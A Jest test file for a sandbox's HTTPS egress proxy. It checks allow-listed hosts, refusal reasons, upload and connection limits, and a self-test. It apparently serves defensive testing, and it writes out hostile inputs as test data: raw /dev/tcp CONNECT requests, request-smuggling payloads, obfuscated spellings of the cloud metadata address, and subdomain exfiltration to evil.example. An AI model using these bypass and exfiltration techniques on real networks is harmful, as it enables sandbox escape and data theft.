import { createServer, type Server } from "node:https";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "@jest/globals";
import { UserError } from "../../src/errors.ts";
import { type AllowedHost, readAllowedHost } from "../../src/sandbox/network-policy.ts";
import { makeCertificates } from "../support/fake-github/certificates.ts";
import {
  type DriverNetwork,
  type Machine,
  makeMachine,
  openMachine,
  parents,
} from "../support/open-sandbox.ts";

const names = [
  "registry.example",
  "data.allowed.example",
  "inside.example",
  "metadata.example",
  "mixed.example",
];
let server: Server;
let port: number;
let authority: string;
/** Host headers that the server was asked for. */
const served: string[] = [];

beforeAll(async () => {
  const certificates = await makeCertificates(names);
  authority = certificates.authority;
  server = createServer({ cert: certificates.chain, key: certificates.key }, (request, response) => {
    served.push(request.headers.host ?? "");
    request.resume().on("end", () => {
      if (request.url !== "/silence") response.end("served");
    });
    request.on("error", () => undefined);
  });
  const { promise, resolve } = Promise.withResolvers<void>();
  server.listen(0, "127.0.0.1", resolve);
  await promise;
  port = (server.address() as AddressInfo).port;
});
afterAll(() => {
  server.closeAllConnections();
  server.close();
});

function entries(...texts: string[]): AllowedHost[] {
  return texts.map((text) => readAllowedHost(text)).filter((host) => host !== undefined);
}

function networkOf(options: Partial<DriverNetwork> = {}): DriverNetwork {
  return {
    policy: {
      everyPublicHost: false,
      hosts: entries(
        ...[`registry.example:${port}`, `*.allowed.example:${port}`, `metadata.example:${port}`],
        ...["gone.example", "mirror.example:8443"],
      ),
    },
    addresses: {
      "registry.example": ["127.0.0.1"],
      "data.allowed.example": ["127.0.0.1"],
      "metadata.example": ["169.254.169.254", "::ffff:169.254.169.254", "fd00:ec2::254"],
      "evil.example": ["127.0.0.1"],
    },
    ...options,
  };
}

const curl = "curl -sS --cacert ca.pem -m 10";
/** Sends text to the proxy and prints the first line of its answer. */
const raw = (text: string) =>
  `exec 9<>/dev/tcp/127.0.0.1/3128; printf '${text}' >&9; read -r -t 8 line <&9; echo "$line"; exec 9>&-`;

describe.each(parents)("commands of a parent that is %s, with some hosts allowed", (parent) => {
  let machine: Machine;
  beforeAll(async () => {
    machine = await openMachine({ parent, files: { "ca.pem": authority }, network: networkOf() });
  });
  afterAll(async () => await machine[Symbol.asyncDispose]());

  const run = async (command: string) => {
    const before = await machine.network();
    const { head } = await machine.run(command);
    const after = await machine.network();
    return {
      output: head,
      refusals: after.refusals.slice(before.refusals.length),
      asked: after.asked.slice(before.asked.length),
    };
  };

  test("pass the self-test, which leaves no trace", async () => {
    await machine.selfTest();
    expect(await machine.network()).toMatchObject({ hosts: [], refused: [], refusals: [], asked: [] });
  });

  test("reach those, and what passed is counted", async () => {
    const { output, refusals } = await run(
      `for i in 1 2; do ${curl} https://registry.example:${port}/; done`,
    );
    expect(output).toBe("servedserved");
    expect(refusals).toEqual([]);
    const [contact] = (await machine.network()).hosts;
    expect(contact).toMatchObject({ host: "registry.example", port, connections: 2 });
    expect(contact?.bytesSent).toBeGreaterThan(1000);
    expect(contact?.bytesReceived).toBeGreaterThan(1000);
  });

  test("reach those beside each other, read-only ones too", async () => {
    const command = `${curl} https://registry.example:${port}/`;
    const results = await Promise.all(
      Array.from({ length: 4 }, () => machine.run(command, { readOnly: true })),
    );
    expect(results.map(({ head }) => head)).toEqual(["served", "served", "served", "served"]);
  });

  test("reach them with other clients than curl, by the usual variables alone", async () => {
    const url = `https://registry.example:${port}`;
    const { output, refusals } = await run(
      `export NODE_EXTRA_CA_CERTS=ca.pem GIT_SSL_CAINFO=$PWD/ca.pem
       /run/tiny-backspace/node -e 'fetch("${url}").then((r) => r.text()).then(console.log)'
       git ls-remote ${url}/o/r.git; echo git $?`,
    );
    expect(output).toBe("served\ngit 0\n");
    expect(refusals).toEqual([]);
  });

  test("are told in the answer why a host is refused", async () => {
    const { output, refusals, asked } = await run(`${curl} -v https://evil.example/ 2>&1`);
    expect(output).toContain("403 Refused by the sandbox: the host is not allowed");
    expect(refusals).toEqual([{ host: "evil.example", port: 443, reason: "host-not-allowed" }]);
    expect(asked).toEqual([]);
  });

  test("reach nothing directly, by TCP or UDP", async () => {
    const { output, asked } = await run(
      `for h in 1.1.1.1 127.0.0.1 169.254.169.254; do : < /dev/tcp/$h/${port} && echo HIT; done 2>/dev/null
       echo x > /dev/udp/8.8.8.8/53 && echo HIT; getent hosts registry.example evil.example && echo HIT
       env -u HTTPS_PROXY -u https_proxy ${curl} https://registry.example:${port}/ 2>&1
       env -u HTTPS_PROXY -u https_proxy git ls-remote https://evil.example/o/r 2>&1 | tail -1`,
    );
    expect(output).not.toMatch(/HIT|served/);
    expect(output).toMatch(/not resolve/i);
    expect(asked).toEqual([]);
  });

  test("reach no address by any spelling", async () => {
    const spellings = [
      ...["169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "[::ffff:169.254.169.254]"],
      ...["169.254.169.254.", "127.1", "[::1]", "127.0.0.1", "0x7f.0.0.1", "017700000001"],
    ];
    const { output, refusals, asked } = await run(
      spellings.map((host) => raw(`CONNECT ${host}:${port} HTTP/1.1\\r\\n\\r\\n`)).join("\n"),
    );
    expect(
      output
        .trim()
        .split("\n")
        .map((line) => line.slice(0, 12)),
    ).toEqual(spellings.map(() => "HTTP/1.1 403"));
    expect(new Set(refusals.map(({ reason }) => reason))).toEqual(new Set(["ip-literal"]));
    expect(asked).toEqual([]);
  });

  test("carry no data out in names of hosts that are not allowed", async () => {
    const { output, asked } = await run(
      `for i in 1 2 3; do ${curl} https://c2VjcmV0$i.evil.example/; done 2>&1; ${raw("CONNECT localhost:443 HTTP/1.1\\r\\n\\r\\n")}`,
    );
    expect(output.match(/403/g)).toHaveLength(4);
    expect(asked).toEqual([]);
  });

  test("get no plain HTTP", async () => {
    const { output, refusals } = await run(
      `${curl} http://registry.example:${port}/; ${curl} http://169.254.169.254/latest/; ${raw("GET / HTTP/1.1\\r\\n\\r\\n")}`,
    );
    expect(output).not.toContain("served");
    expect(refusals.map(({ reason }) => reason)).toEqual(["not-https", "not-https", "not-https"]);
  });

  test.each([
    ["registry.example.evil.example:PORT", "host-not-allowed"],
    ["evilregistry.example:PORT", "host-not-allowed"],
    ["allowed.example:PORT", "host-not-allowed"],
    ["xallowed.example:PORT", "host-not-allowed"],
    ["registry.example:22", "port-not-allowed"],
    ["registry.example:443", "port-not-allowed"],
    ["mirror.example:PORT", "port-not-allowed"],
    ["registry.example@evil.example:PORT", "bad-request"],
    ["evil.example@registry.example:PORT", "bad-request"],
    ["registry.example%%00.evil.example:PORT", "bad-request"],
    ["registry.example:PORT:443", "bad-request"],
    ["REGISTRY.EXAMPLE", "bad-request"],
  ])("are refused %s: %s", async (target, reason) => {
    const authorityForm = target.replace("PORT", String(port));
    const { output, refusals, asked } = await run(raw(`CONNECT ${authorityForm} HTTP/1.1\\r\\n\\r\\n`));
    expect(output).toMatch(/^HTTP\/1\.1 403 /);
    expect(refusals.map((refusal) => refusal.reason)).toEqual([reason]);
    expect(asked).toEqual([]);
  });

  test("smuggle no second request", async () => {
    const second = `CONNECT registry.example:${port} HTTP/1.1\\r\\n\\r\\n`;
    const { output } = await run(
      [
        `exec 9<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT evil.example:443 HTTP/1.1\\r\\nHost: registry.example\\r\\n\\r\\n${second}' >&9; timeout 5 cat <&9; exec 9>&-`,
        raw(`GET http://registry.example/ HTTP/1.1\\r\\nContent-Length: 100\\r\\n\\r\\n${second}`),
        raw(`CONNECT registry.example:${port} HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n${second}`),
        raw(`CONNECT registry.example:${port} HTTP/1.1\\nX: y\\r\\n\\r\\n`),
      ].join("\n"),
    );
    expect(output).not.toMatch(/HTTP\/1\.1 2/);
    expect(output.match(/HTTP\/1\.1 403/g)).toHaveLength(4);
  });

  const openssl = (more: string) =>
    `openssl s_client -proxy 127.0.0.1:3128 -connect registry.example:${port} ${more} -CAfile ca.pem </dev/null 2>&1 | grep -c 'BEGIN CERTIFICATE'`;

  test.each([
    ["another host", "-servername evil.example", "other-server-name"],
    ["a host below it", "-servername a.registry.example", "other-server-name"],
    ["no host", "-noservername", "no-server-name"],
  ])("get no TLS that asks for %s", async (_, more, reason) => {
    const { output, refusals } = await run(openssl(more));
    expect(output.trim()).toBe("0");
    expect(refusals).toEqual([{ host: "registry.example", port, reason }]);
    expect((await run(openssl("-servername registry.example"))).output.trim()).toBe("1");
  });

  test("get nothing but TLS", async () => {
    const { output, refusals } = await run(
      `exec 9<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT registry.example:${port} HTTP/1.1\\r\\n\\r\\nGET / HTTP/1.1\\r\\n\\r\\n' >&9; timeout 5 cat <&9`,
    );
    expect(output.trim()).toBe("HTTP/1.1 200 Connection established");
    expect(refusals).toEqual([{ host: "registry.example", port, reason: "not-tls" }]);
  });

  test("reach a private address only of a host that is named in full", async () => {
    const before = served.length;
    const { refusals } = await run(`${curl} https://data.allowed.example:${port}/`);
    expect(refusals).toEqual([{ host: "data.allowed.example", port, reason: "private-address" }]);
    expect(served).toHaveLength(before);
  });

  test("reach metadata services by no name", async () => {
    const { refusals } = await run(`${curl} https://metadata.example:${port}/`);
    expect(refusals).toEqual([{ host: "metadata.example", port, reason: "forbidden-address" }]);
  });

  // Not stopped, and told when such an entry is given.
  test("can carry data out in names below an entry with a star", async () => {
    const { asked } = await run(`${curl} https://c2VjcmV0.allowed.example:${port}/`);
    expect(asked).toEqual(["c2VjcmV0.allowed.example".toLowerCase()]);
  });

  test("learn that a host is not there, which is no refusal", async () => {
    const { output, refusals } = await run(`${curl} https://gone.example/ 2>&1`);
    expect(output).toContain("502");
    expect(refusals).toEqual([]);
  });

  test("have the way out alone: the file worker and our own programs don't", async () => {
    await expect(machine.sandbox.readFile({ path: "/run/proxy.sock", maxBytes: 10 })).rejects.toThrow(
      /There is no file/,
    );
    const { stdout } = await machine.runProgram({
      argv: ["/bin/bash", "-c", "ls /run; env | grep -ci proxy; : </dev/tcp/127.0.0.1/3128"],
    });
    expect(stdout.toString()).toBe("git-objects\ntiny-backspace\n0\n");
  });

  test("can't move or replace it, and their own processes have no stranger among them", async () => {
    const { output } = await run(
      "rm -f /run/proxy.sock; mv /run/proxy.sock /tmp; touch /run/x; wait; jobs; ls /run",
    );
    expect(output).toContain("Read-only");
    expect(output).toMatch(/git-objects\nproxy\.sock\ntiny-backspace\n$/);
  });
});

describe("limits", () => {
  const open = (options: Partial<DriverNetwork>) =>
    openMachine({ parent: "unprivileged", files: { "ca.pem": authority }, network: networkOf(options) });
  const post = (kilobytes: number) =>
    `head -c ${kilobytes * 1024} /dev/zero | ${curl} --data-binary @- https://registry.example:${port}/ 2>&1; echo`;

  test("end a connection that sends too much, and then all of them", async () => {
    await using machine = await open({ limits: { uploadBytes: 200_000, totalUploadBytes: 300_000 } });
    expect((await machine.run(post(100))).head).toBe("served\n");
    expect((await machine.run(post(250))).head).not.toContain("served");
    expect((await machine.run(post(100))).head).not.toContain("served");
    const { refusals, hosts } = await machine.network();
    expect(new Set(refusals.map(({ reason }) => reason))).toEqual(new Set(["upload-limit"]));
    expect(hosts[0]?.bytesSent).toBeLessThanOrEqual(300_000);
  });

  test("keep the number of connections and the time that an idle one lasts small", async () => {
    await using machine = await open({ limits: { connections: 3, stepMs: 500, idleMs: 500 } });
    const { head } = await machine.run(
      `for i in 1 2 3 4 5; do eval "exec 1$i<>/dev/tcp/127.0.0.1/3128"; done; for i in 11 12 13; do timeout 8 cat <&$i; done; echo over; ${curl} https://registry.example:${port}/`,
    );
    expect(head).toBe("over\nserved");
    const silent = await machine.run(`${curl} https://registry.example:${port}/silence 2>&1`);
    expect(silent.head).not.toContain("timed out");
    expect(silent.end).not.toEqual({ type: "exit", code: 0 });
    const { refused } = await machine.network();
    expect(refused).toEqual([{ host: "", port: null, reason: "connection-limit", count: 2 }]);
  });

  test("tell a flood of refusals once each, up to a number, and count the rest", async () => {
    await using machine = await open({});
    const ask = (count: number, host: string) =>
      `for ((i = 0; i < ${count}; i++)); do exec 9<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT %s:443 HTTP/1.1\\r\\n\\r\\n' "${host}" >&9; read -r -u 9 _; exec 9>&-; done`;
    const flood = [ask(1100, "same.example"), ask(1050, "h$i.evil.example"), ask(1, "same.example")];
    const { end } = await machine.run(flood.join("\n"), { timeoutMs: 60_000 });
    expect(end).toEqual({ type: "exit", code: 0 });
    const { refusals, refused, leftOut } = await machine.network();
    // What floods doesn't keep others from being told.
    expect(refusals.filter(({ host }) => host === "same.example")).toHaveLength(1001);
    expect(new Set(refusals.map(({ host }) => host)).size).toBe(1000);
    expect(refused).toHaveLength(1000);
    expect(refused[0]).toMatchObject({ host: "same.example", count: 1101 });
    expect(leftOut).toBe(51);
  }, 60_000);
});

test("every public host: any name on port 443, at no private address", async () => {
  await using machine = await openMachine({
    parent: "unprivileged",
    files: { "ca.pem": authority },
    network: networkOf({
      policy: { everyPublicHost: true, hosts: entries(`registry.example:${port}`) },
      addresses: {
        "registry.example": ["127.0.0.1"],
        "inside.example": ["10.0.0.1", "127.0.0.1", "fd00::1"],
        localhost: ["127.0.0.1", "::1"],
      },
    }),
  });
  await machine.selfTest();
  const { head } = await machine.run(
    `${curl} https://registry.example:${port}/; for h in inside.example inside.example:22 localhost; do ${curl} https://$h/ 2>&1; done; ${curl} --noproxy "" https://localhost/`,
  );
  expect(head).toMatch(/^served/);
  expect((await machine.network()).refused).toEqual([
    { host: "inside.example", port: 443, reason: "private-address", count: 1 },
    { host: "inside.example", port: 22, reason: "port-not-allowed", count: 1 },
    { host: "localhost", port: 443, reason: "private-address", count: 1 },
  ]);
});

test("a proxy that lets through what is not allowed fails the self-test", async () => {
  await using machine = await openMachine({
    parent: "unprivileged",
    network: networkOf({
      policy: { everyPublicHost: false, hosts: [{ name: "invalid", subdomains: true, port: 443 }] },
    }),
  });
  const error: unknown = await machine.selfTest().catch((cause: unknown) => cause);
  expect(error).toMatchObject({
    code: "sandbox-unavailable",
    message: expect.stringMatching(
      /the proxy answered 502.*the proxy did not refuse a host that isn't allowed/,
    ),
  });
});

test("a machine whose paths are long has a way out all the same", async () => {
  await using machine = await makeMachine({
    parent: "unprivileged",
    files: { "ca.pem": authority },
    network: networkOf(),
    temp: "t".repeat(90),
  });
  await machine.open();
  expect((await machine.run(`${curl} https://registry.example:${port}/`)).head).toBe("served");
});

test("files for HOME tell package managers in there of the machine's mirrors", async () => {
  await using machine = await openMachine({
    parent: parents.at(-1) ?? "unprivileged",
    network: networkOf({
      files: { ".config/pip/pip.conf": "[global]\n", ".npmrc": "registry=https://registry.example/\n" },
    }),
  });
  const { head } = await machine.run(
    "cat ~/.npmrc ~/.config/pip/pip.conf; echo own >> ~/.npmrc && tail -1 ~/.npmrc",
  );
  expect(head).toBe("registry=https://registry.example/\n[global]\nown\n");
});

test("without socat the network can't be had, and the fix is told", async () => {
  const bwrap = "/usr/bin/bwrap";
  await using machine = await makeMachine({
    parent: "unprivileged",
    network: networkOf(),
    sandbox: { programs: { bwrap } },
  });
  const error: unknown = await machine.open().catch((cause: unknown) => cause);
  expect(error).toBeInstanceOf(UserError);
  expect(error).toMatchObject({
    code: "sandbox-unavailable",
    message: expect.stringContaining("sudo apt-get install -y socat"),
  });
  await using elsewhere = await makeMachine({
    parent: "unprivileged",
    network: networkOf(),
    sandbox: { programs: { bwrap, socat: join(machine.directory, "socat") } },
  });
  await expect(elsewhere.open()).rejects.toThrow(/socat/);
});
